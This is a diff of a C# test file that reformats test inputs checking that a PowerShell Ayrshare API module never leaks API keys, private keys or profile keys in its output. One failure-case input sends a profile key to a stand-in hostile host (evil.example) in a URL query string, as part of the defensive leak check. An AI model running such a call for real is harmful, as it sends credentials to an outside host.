@@ -61,16 +61,24 @@ public sealed class SecretSweepTests : IDisposable
     [InlineData("$row | New-AyrshareJwt | Send-AyrshareConnectEmail")]
     [InlineData("Test-AyrshareConnection -ProfileKey $key")]
     [InlineData("Connect-Ayrshare $apiKey -PrivateKey $pem -PassThru; Get-AyrshareConnection")]
-    [InlineData("$sandbox.Link('Acme', 'gmb'); $row | New-AyrshareJwt | Wait-AyrshareSocialAccount; $row | Wait-AyrshareSocialAccount | New-AyrshareJwt")]
-    [InlineData("Resolve-AyrshareError 146; New-AyrshareJwt -ProfileKey $wrongKey -ErrorAction SilentlyContinue; $Error[0] | Resolve-AyrshareError")]
+    [InlineData("$sandbox.Link('Acme', 'gmb'); $row | New-AyrshareJwt | Wait-AyrshareSocialAccount; $row | Wait-AyrshareSocialAccount "
+        + "| New-AyrshareJwt")]
+    [InlineData("Resolve-AyrshareError 146; New-AyrshareJwt -ProfileKey $wrongKey -ErrorAction SilentlyContinue; $Error[0] | "
+        + "Resolve-AyrshareError")]
     [InlineData("Disconnect-Ayrshare")]
     [InlineData("$row | Invoke-AyrshareApi history @x; Invoke-AyrshareApi user -ProfileKey $key -Raw")]
-    [InlineData("Invoke-AyrshareApi profiles -Method Patch -Body @{ subHeader = 'x'; profileKey = $key; privateKey = $pem } -Query @{ profileKey = $key } -ProfileKeySecret key")]
-    [InlineData("[pscustomobject]@{ Title = 'Berta'; Email = 'b@c.example' } | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal -SendEmail; Get-AyrshareOnboarding $journal")]
-    [InlineData("$sandbox.Link('Acme', 'gmb'); $row | Get-AyrshareSocialAccount; Get-AyrshareSocialAccount -ProfileKey $key | Disconnect-AyrshareSocialAccount -PassThru")]
-    [InlineData("$row | Disconnect-AyrshareSocialAccount -Network reddit -PassThru; Disconnect-AyrshareSocialAccount -PrimaryProfile -Network reddit -Force -PassThru")]
-    [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Set-AyrshareProfile Berta -NewTitle Cafe -Vault Company -PassThru; $row | Set-AyrshareProfile -Tags a -PassThru")]
-    [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Remove-AyrshareProfile Berta -Vault Company -RemoveSecret -Force -PassThru; $row | Remove-AyrshareProfile -Force -PassThru")]
+    [InlineData("Invoke-AyrshareApi profiles -Method Patch -Body @{ subHeader = 'x'; profileKey = $key; privateKey = $pem } -Query @{ "
+        + "profileKey = $key } -ProfileKeySecret key")]
+    [InlineData("[pscustomobject]@{ Title = 'Berta'; Email = 'b@c.example' } | Invoke-AyrshareOnboarding -Vault Company -JournalPath "
+        + "$journal -SendEmail; Get-AyrshareOnboarding $journal")]
+    [InlineData("$sandbox.Link('Acme', 'gmb'); $row | Get-AyrshareSocialAccount; Get-AyrshareSocialAccount -ProfileKey $key | "
+        + "Disconnect-AyrshareSocialAccount -PassThru")]
+    [InlineData("$row | Disconnect-AyrshareSocialAccount -Network reddit -PassThru; Disconnect-AyrshareSocialAccount -PrimaryProfile "
+        + "-Network reddit -Force -PassThru")]
+    [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Set-AyrshareProfile Berta -NewTitle Cafe -Vault Company -PassThru; "
+        + "$row | Set-AyrshareProfile -Tags a -PassThru")]
+    [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Remove-AyrshareProfile Berta -Vault Company -RemoveSecret -Force "
+        + "-PassThru; $row | Remove-AyrshareProfile -Force -PassThru")]
     public void In_success(string command) => AssertClean(command);
 
     [Theory]
@@ -89,12 +97,17 @@ public sealed class SecretSweepTests : IDisposable
     [InlineData("[pscustomobject]@{ ProfileKey = $key; Mode = 'x'; ExpiresIn = @{ a = 1 } } | New-AyrshareLinkSession")]
     [InlineData("New-AyrshareLinkSession -ProfileKey $key -XApiKey $xKey")]
     [InlineData("Get-AyrshareLinkSession nope -ProfileKey $key; Revoke-AyrshareLinkSession nope -ProfileKey $wrongKey")]
-    [InlineData("Get-AyrshareLinkSession ($row | New-AyrshareLinkSession).Url; Revoke-AyrshareLinkSession ($row | New-AyrshareLinkSession).Token -Confirm:$false")]
-    [InlineData("($row | New-AyrshareLinkSession).Token | Get-AyrshareLinkSession; ($row | New-AyrshareLinkSession).Url.AbsoluteUri | Revoke-AyrshareLinkSession")]
-    [InlineData("$row | New-AyrshareLinkSession -OutVariable link; $link | New-AyrshareJwt -Domain x -RedirectOrigin; $link | Disconnect-AyrshareSocialAccount")]
-    [InlineData("$row | New-AyrshareJwt -OutVariable link; $link | Get-AyrshareLinkSession; [pscustomobject]@{ Title = 'x'; Url = $link[0].Url; Token = $link[0].Token } | Get-AyrshareLinkSession")]
+    [InlineData("Get-AyrshareLinkSession ($row | New-AyrshareLinkSession).Url; Revoke-AyrshareLinkSession ($row | "
+        + "New-AyrshareLinkSession).Token -Confirm:$false")]
+    [InlineData("($row | New-AyrshareLinkSession).Token | Get-AyrshareLinkSession; ($row | New-AyrshareLinkSession).Url.AbsoluteUri | "
+        + "Revoke-AyrshareLinkSession")]
+    [InlineData("$row | New-AyrshareLinkSession -OutVariable link; $link | New-AyrshareJwt -Domain x -RedirectOrigin; $link | "
+        + "Disconnect-AyrshareSocialAccount")]
+    [InlineData("$row | New-AyrshareJwt -OutVariable link; $link | Get-AyrshareLinkSession; [pscustomobject]@{ Title = 'x'; Url = "
+        + "$link[0].Url; Token = $link[0].Token } | Get-AyrshareLinkSession")]
     [InlineData("[pscustomobject]@{ RefId = $key; ProfileKey = $key; Network = $key; Redirect = $key } | Disconnect-AyrshareSocialAccount")]
-    [InlineData("[pscustomobject]@{ RefId = $apiKey; ProfileKey = $key; Network = $key; Redirect = \"$key \" } | Get-AyrshareSocialAccount -Network facbook")]
+    [InlineData("[pscustomobject]@{ RefId = $apiKey; ProfileKey = $key; Network = $key; Redirect = \"$key \" } | "
+        + "Get-AyrshareSocialAccount -Network facbook")]
     [InlineData("@{ RefId = $wrongKey; ProfileKey = $wrongKey; Tags = $wrongKey; MessagingActive = $wrongKey } | Set-AyrshareProfile")]
     [InlineData("[pscustomobject]@{ RefId = $wrongKey; ProfileKey = $wrongKey; MessagingActive = $wrongKey } | Set-AyrshareProfile")]
     [InlineData("[pscustomobject]@{ ProfileKey = $apiKey; Email = $apiKey } | Send-AyrshareConnectEmail -To a@b.example")]
@@ -110,7 +123,8 @@ public sealed class SecretSweepTests : IDisposable
     [InlineData("New-AyrshareJwt -ProfileKeySecret key -Vault Nowhere")]
     [InlineData("$row | New-AyrshareProfile -Vault Locked; $row | New-AyrshareProfile -Vault Nowhere")]
     [InlineData("$row | New-AyrshareProfile; $row | New-AyrshareProfile -DisableSocial x")]
-    [InlineData("[pscustomobject]@{ Title = ''; ProfileKey = $key }, [pscustomobject]@{ Title = $null; ProfileKey = $key } | New-AyrshareProfile")]
+    [InlineData(
+        "[pscustomobject]@{ Title = ''; ProfileKey = $key }, [pscustomobject]@{ Title = $null; ProfileKey = $key } | New-AyrshareProfile")]
     [InlineData("$row | Get-AyrshareProfile -IncludesActiveSocialAccounts x; $row | Get-AyrshareProfile -PageSize 0")]
     [InlineData("Test-AyrshareConnection -ProfileKey $wrongKey; Test-AyrshareConnection -ProfileKey $key -Connection text")]
     [InlineData("Connect-Ayrshare $apiKey -PrivateKey $pem -TimeoutSec text")]
@@ -122,31 +136,46 @@ public sealed class SecretSweepTests : IDisposable
     [InlineData("Connect-Ayrshare $apiKey -PrivateKeyPath $pem")]
     [InlineData("Connect-Ayrshare $apiKey -PrivateKeyPath ([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($pem)))")]
     [InlineData("Connect-Ayrshare -Vault Locked; Connect-Ayrshare -ApiKeySecret nope")]
-    [InlineData("Connect-Ayrshare $wrongKey -BaseUri $sandbox.BaseUri; $row | New-AyrshareProfile; Test-AyrshareConnection; Get-AyrshareProfile")]
-    [InlineData("$key | Resolve-AyrshareError; Resolve-AyrshareError $apiKey; Resolve-AyrshareError -Status $key; Resolve-AyrshareError -ErrorRecord $key")]
-    [InlineData("try { throw \"broken: $key\" } catch { $foreign = $_ }; $Error.Clear(); $foreign | Resolve-AyrshareError; New-AyrshareJwt -ProfileKey \"$key`n$key\"; @($Error) | Resolve-AyrshareError")]
-    [InlineData("$row | Wait-AyrshareSocialAccount -TimeoutSec 5; $row | Wait-AyrshareSocialAccount -TimeoutSec many; $wrongKey | Wait-AyrshareSocialAccount")]
-    [InlineData("[pscustomobject]@{ ProfileKey = $key; Network = 'facbook' }, [pscustomobject]@{ ProfileKey = @{ key = $key } } | Wait-AyrshareSocialAccount -TimeoutSec 0")]
-    [InlineData("$row | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal; $row | Invoke-AyrshareOnboarding -Vault Locked -JournalPath $journal")]
+    [InlineData(
+        "Connect-Ayrshare $wrongKey -BaseUri $sandbox.BaseUri; $row | New-AyrshareProfile; Test-AyrshareConnection; Get-AyrshareProfile")]
+    [InlineData("$key | Resolve-AyrshareError; Resolve-AyrshareError $apiKey; Resolve-AyrshareError -Status $key; "
+        + "Resolve-AyrshareError -ErrorRecord $key")]
+    [InlineData("try { throw \"broken: $key\" } catch { $foreign = $_ }; $Error.Clear(); $foreign | Resolve-AyrshareError; "
+        + "New-AyrshareJwt -ProfileKey \"$key`n$key\"; @($Error) | Resolve-AyrshareError")]
+    [InlineData("$row | Wait-AyrshareSocialAccount -TimeoutSec 5; $row | Wait-AyrshareSocialAccount -TimeoutSec many; $wrongKey | "
+        + "Wait-AyrshareSocialAccount")]
+    [InlineData("[pscustomobject]@{ ProfileKey = $key; Network = 'facbook' }, [pscustomobject]@{ ProfileKey = @{ key = $key } } | "
+        + "Wait-AyrshareSocialAccount -TimeoutSec 0")]
+    [InlineData("$row | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal; $row | Invoke-AyrshareOnboarding -Vault Locked "
+        + "-JournalPath $journal")]
     [InlineData("$row | Invoke-AyrshareOnboarding -Vault Failing -JournalPath $journal; Get-AyrshareOnboarding $wrongPath")]
-    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); [pscustomobject]@{ Title = 'Berta' } | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal")]
+    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); [pscustomobject]@{ Title = 'Berta' } | Invoke-AyrshareOnboarding -Vault "
+        + "Company -JournalPath $journal")]
     [InlineData("Invoke-AyrshareApi https://evil.example/api/user?key=$key; Invoke-AyrshareApi \"user?profileKey=$key\"")]
     [InlineData("Invoke-AyrshareApi post -Method Post -Body \"{ 'profileKey': '$key'\"; Invoke-AyrshareApi post -Method Post -Body $pem")]
-    [InlineData("$row | Invoke-AyrshareApi post -Method Post -Body @{ privateKey = $pem; a = { $key } }; $row | Invoke-AyrshareApi history -Query @{ profileKey = @{ $key = 1 } }")]
+    [InlineData("$row | Invoke-AyrshareApi post -Method Post -Body @{ privateKey = $pem; a = { $key } }; $row | Invoke-AyrshareApi "
+        + "history -Query @{ profileKey = @{ $key = 1 } }")]
     [InlineData("[pscustomobject]@{ ProfileKey = $wrongKey } | Invoke-AyrshareApi history; Invoke-AyrshareApi user -ProfileKey $apiKey")]
     [InlineData("$row | Invoke-AyrshareApi nosuch -Method Post -Body @{ profileKey = $wrongKey; privateKey = $pem } @x")]
-    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Query @{ profileKey = $key } -Body @{ profileKeys = $key, $wrongKey; nested = @{ twitterApiSecret = $xSecret } }")]
-    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Body ('{ \"profileKey\": \"' + $key + '\" }')")]
+    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Query @{ profileKey = $key } "
+        + "-Body @{ profileKeys = $key, $wrongKey; nested = @{ twitterApiSecret = $xSecret } }")]
+    [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); Invoke-AyrshareApi user -Method Post -Body ('{ \"profileKey\": \"' + "
+        + "$key + '\" }')")]
     [InlineData("Start-AyrshareSandbox -ApiKey $apiKey -PrivateKey ($pem -replace 'A', '')")]
     [InlineData("Start-AyrshareSandbox -ApiKey $apiKey -Port $sandbox.BaseUri.Port")]
-    [InlineData("$row | Set-AyrshareProfile; @{ ProfileKey = $key } | Set-AyrshareProfile -Tags a; $row | Set-AyrshareProfile -MessagingActive maybe -ThrottleLimit many")]
-    [InlineData("[pscustomobject]@{ ProfileKey = $key; MessagingActive = @{ a = 1 }; Tags = 'a' } | Set-AyrshareProfile; $wrongKey | Set-AyrshareProfile -Tags a")]
+    [InlineData("$row | Set-AyrshareProfile; @{ ProfileKey = $key } | Set-AyrshareProfile -Tags a; $row | Set-AyrshareProfile "
+        + "-MessagingActive maybe -ThrottleLimit many")]
+    [InlineData("[pscustomobject]@{ ProfileKey = $key; MessagingActive = @{ a = 1 }; Tags = 'a' } | Set-AyrshareProfile; $wrongKey | "
+        + "Set-AyrshareProfile -Tags a")]
     [InlineData("$null = New-AyrshareProfile Berta -Vault Company; Set-Secret Ayrshare-ProfileKey-Cafe $wrongKey -Vault Company; Set-AyrshareProfile Berta -NewTitle Cafe -Vault Company; Suspend-SecretVault -After 2 -Calls 1; Set-AyrshareProfile Berta -NewTitle Dora -Vault Company")]
     [InlineData("$row | Remove-AyrshareProfile; $wrongKey | Remove-AyrshareProfile -Force")]
-    [InlineData("[pscustomobject]@{ Title = 'Berta'; ProfileKey = $key } | Remove-AyrshareProfile -Force; $row | Remove-AyrshareProfile -Force -RemoveSecret -Vault Locked")]
-    [InlineData("$row | Get-AyrshareSocialAccount -Network x; $wrongKey | Get-AyrshareSocialAccount; $row | Get-AyrshareSocialAccount -ThrottleLimit 0")]
+    [InlineData("[pscustomobject]@{ Title = 'Berta'; ProfileKey = $key } | Remove-AyrshareProfile -Force; $row | "
+        + "Remove-AyrshareProfile -Force -RemoveSecret -Vault Locked")]
+    [InlineData("$row | Get-AyrshareSocialAccount -Network x; $wrongKey | Get-AyrshareSocialAccount; $row | Get-AyrshareSocialAccount "
+        + "-ThrottleLimit 0")]
     [InlineData("$row | Get-AyrshareSocialAccount -PrimaryProfile")]
-    [InlineData("$row | Disconnect-AyrshareSocialAccount; $wrongKey | Disconnect-AyrshareSocialAccount -Network gmb; Disconnect-AyrshareSocialAccount -Network gmb -ProfileKey $apiKey")]
+    [InlineData("$row | Disconnect-AyrshareSocialAccount; $wrongKey | Disconnect-AyrshareSocialAccount -Network gmb; "
+        + "Disconnect-AyrshareSocialAccount -Network gmb -ProfileKey $apiKey")]
     [InlineData("$row | Disconnect-AyrshareSocialAccount -Network gmb -PrimaryProfile -Force")]
     [InlineData("Disconnect-AyrshareSocialAccount -Network gmb -PrimaryProfile -ProfileKey $key")]
     public void In_failure(string command)
@@ -203,7 +232,8 @@ public sealed class SecretSweepTests : IDisposable
     [Fact]
     public void A_new_key_that_was_asked_for_is_in_the_output_alone()
     {
-        var result = _session.Run("$VerbosePreference = 'Continue'; $DebugPreference = 'Continue'; Invoke-AyrshareApi profiles -Method Post -Body @{ title = 'Raw' }").ThrowIfFailed();
+        var result = _session.Run("$VerbosePreference = 'Continue'; $DebugPreference = 'Continue'; Invoke-AyrshareApi profiles -Method "
+            + "Post -Body @{ title = 'Raw' }").ThrowIfFailed();
 
         var key = (string)result.Only.Properties["profileKey"].Value;
         Assert.Equal(key, $"{_session.Run("($sandbox.Profiles | Where-Object Title -eq Raw).ProfileKey").Only}");
@@ -279,7 +309,9 @@ public sealed class SecretSweepTests : IDisposable
         foreach (var secret in secrets)
         {
             var at = text.IndexOf(secret, StringComparison.Ordinal);
-            Assert.True(at < 0, at < 0 ? "" : $"A credential shows: …{text[Math.Max(0, at - 200)..Math.Min(text.Length, at + secret.Length + 50)]}");
+            Assert.True(
+                at < 0,
+                at < 0 ? "" : $"A credential shows: …{text[Math.Max(0, at - 200)..Math.Min(text.Length, at + secret.Length + 50)]}");
         }
     }
 }
